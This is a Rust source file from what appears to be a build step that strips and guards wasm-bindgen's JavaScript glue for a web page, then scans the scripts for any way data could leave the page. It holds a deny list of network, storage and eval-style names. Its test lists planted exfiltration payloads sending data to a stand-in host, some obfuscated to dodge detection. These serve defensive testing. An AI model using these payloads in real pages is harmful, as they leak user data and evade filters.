//! wasm-bindgen's glue, made safe: what the page must not do is cut out of it, what is too general is bounded, and what
//! is left is searched for ways out.

use crate::Done;

/// Parts of the stock glue, and what takes their place. A part that is not found fails the build, so that a new
/// wasm-bindgen is looked at.
const CHANGES: [(&str, &str); 11] = [
    // The loader only ever gets the compiled module.
    ("module_or_path = fetch(module_or_path);", "throw new Error('no address');"),
    ("await WebAssembly.instantiateStreaming(module, imports)", "undefined"),
    ("script_src = new URL(document.currentScript.src, location.href).toString();", ""),
    ("(typeof Request === 'function' && module_or_path instanceof Request) || ", ""),
    // Yew can place markup and set any property; this page does neither.
    ("getObject(arg0).innerHTML = getStringFromWasm0(arg1, arg2);", "throw new Error('refused: markup');"),
    (
        "const ret = Reflect.set(getObject(arg0), getObject(arg1), getObject(arg2));",
        "throw new Error('refused: property'); const ret = 0;",
    ),
    // Bounded by static/guards.js.
    (
        "getObject(arg0).setAttribute(getStringFromWasm0(arg1, arg2), getStringFromWasm0(arg3, arg4));",
        "guarded.attribute(getObject(arg0), getStringFromWasm0(arg1, arg2), getStringFromWasm0(arg3, arg4));",
    ),
    (
        "getObject(arg0).createElement(getStringFromWasm0(arg1, arg2));",
        "getObject(arg0).createElement(guarded.element(getStringFromWasm0(arg1, arg2)));",
    ),
    (
        "getObject(arg0).createElementNS(arg1 === 0 ? undefined : getStringFromWasm0(arg1, arg2), getStringFromWasm0(arg3, arg4));",
        "getObject(arg0).createElementNS(arg1 === 0 ? undefined : getStringFromWasm0(arg1, arg2), guarded.element(getStringFromWasm0(arg3, arg4)));",
    ),
    (
        "getObject(arg0).href = getStringFromWasm0(arg1, arg2);",
        "getObject(arg0).href = guarded.address(getStringFromWasm0(arg1, arg2));",
    ),
    (
        "arg4 === 0 ? undefined : getStringFromWasm0(arg4, arg5));",
        "arg4 === 0 ? undefined : guarded.fragment(getStringFromWasm0(arg4, arg5)));",
    ),
];

/// Names that must not stand in the page's scripts: ways out, places that keep something, and what reaches either by a
/// name made at run time.
pub const WAYS_OUT: [&str; 39] = [
    "fetch",
    "Request",
    "XMLHttpRequest",
    "WebSocket",
    "WebSocketStream",
    "EventSource",
    "sendBeacon",
    "fetchLater",
    "WebTransport",
    "RTCPeerConnection",
    "webkitRTCPeerConnection",
    "RTCDataChannel",
    "importScripts",
    "SharedWorker",
    "serviceWorker",
    "BroadcastChannel",
    "PresentationRequest",
    "PaymentRequest",
    "open",
    "location",
    "navigation",
    "cookie",
    "cookieStore",
    "localStorage",
    "sessionStorage",
    "indexedDB",
    "caches",
    "storage",
    "innerHTML",
    "outerHTML",
    "insertAdjacentHTML",
    "write",
    "import",
    "eval",
    "Function",
    "constructor",
    "Reflect",
    "call",
    "apply",
];

/// Removed from the page and its workers before anything else runs: what no policy stops, and what has no use here.
pub const REMOVED: [&str; 17] = [
    "RTCPeerConnection",
    "webkitRTCPeerConnection",
    "RTCDataChannel",
    "WebTransport",
    "WebSocket",
    "WebSocketStream",
    "EventSource",
    "XMLHttpRequest",
    "fetch",
    "fetchLater",
    "SharedWorker",
    "BroadcastChannel",
    "importScripts",
    "localStorage",
    "sessionStorage",
    "indexedDB",
    "caches",
];

/// Places where such a name stands all the same, with what it can reach there.
const EXCEPTIONS: [(&str, &str); 7] = [
    ("const ret = getObject(arg0).location;", "read only: its fragment and its own address; nothing sets it"),
    ("return f.apply(this, args);", "wraps an import of the list so that its error is handed on"),
    (
        "Uint8Array.prototype.set.call(getArrayU8FromWasm0(arg0, arg1), getObject(arg2));",
        "copies bytes of a file into the program's memory",
    ),
    ("/\\[object ([^\\]]+)\\]/.exec(toString.call(val));", "names the type of a value in an error text"),
    ("return toString.call(val);", "the same"),
    ("return `Function(${name})`;", "the same; a text"),
    ("return 'Function';", "the same; a text"),
];

/// The glue as the page uses it. Of a quick page, which the compiler leaves other parts in, what is there is changed.
pub fn made_safe(stock: &str, checked: bool) -> Done<String> {
    let mut glue = stock.to_owned();
    for (part, instead) in CHANGES {
        if checked && !glue.contains(part) {
            return Err(format!(
                "wasm-bindgen's glue has changed: {part:?} is not in it; look at it and adapt CHANGES"
            ));
        }
        glue = glue.replace(part, instead);
    }
    Ok(without_comments(&glue))
}

fn without_comments(script: &str) -> String {
    let lines = script.lines().map(str::trim_start).filter(|line| !line.starts_with("//") && !line.is_empty());
    lines.collect::<Vec<_>>().join("\n")
}

/// What makes a name out of something else, so that looking for names finds nothing.
const HIDES_NAMES: [&str; 6] = ["globalThis[", "self[", "window[", "document[", "navigator[", "\\u"];

/// Fails when a script names a way out. Comments are searched too: what only looks like one may be code.
pub fn search(script: &str) -> Done {
    let script = EXCEPTIONS.iter().fold(script.to_owned(), |text, (place, _)| text.replace(place, ""));
    if let Some(part) = HIDES_NAMES.iter().find(|part| script.contains(**part)) {
        return Err(format!("the page's scripts hold {part:?}, which can hide a name"));
    }
    let part = |c: char| c.is_alphanumeric() || c == '_' || c == '$';
    match script.split(|c| !part(c)).find(|word| WAYS_OUT.contains(word)) {
        Some(word) => Err(format!("the page's scripts hold {word:?}: nothing may leave the page")),
        None => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A leak that no policy stops, or that a host without headers would let through, does not pass the build.
    #[test]
    fn planted_leaks_are_found() {
        for leak in [
            "fetch('https://x.example/?' + data)",
            "location.href = 'https://x.example/?' + data",
            "location = 'https://x.example/'",
            "getObject(arg0).location = getStringFromWasm0(arg1, arg2);",
            "window.open('https://x.example/')",
            "new RTCPeerConnection({ iceServers: [{ urls: 'stun:x.example' }] })",
            "navigator.sendBeacon('https://x.example/', data)",
            "new WebSocket('wss://x.example/')",
            "importScripts('https://x.example/w.js')",
            "import('https://x.example/m.js')",
            "document.cookie = data",
            "localStorage.setItem('a', data)",
            "eval(data)",
            "new Function(data)",
            "[].constructor.constructor(data)()",
            "Reflect.get(globalThis, 'fe' + 'tch')",
            "element.innerHTML = data",
            "globalThis['lo' + 'cation'] = 'https://x.example/'",
            "loc\\u0061tion = 'https://x.example/'",
            "`\n// ${fetch('https://x.example/')}`",
        ] {
            assert!(search(leak).is_err(), "{leak}");
        }
    }

    #[test]
    fn words_that_only_look_like_a_way_out_pass() {
        for line in ["prefetched(1)", "opened = true", "const ret = getObject(arg0).location;", "callback(1)"] {
            assert_eq!(search(line), Ok(()), "{line}");
        }
    }
}
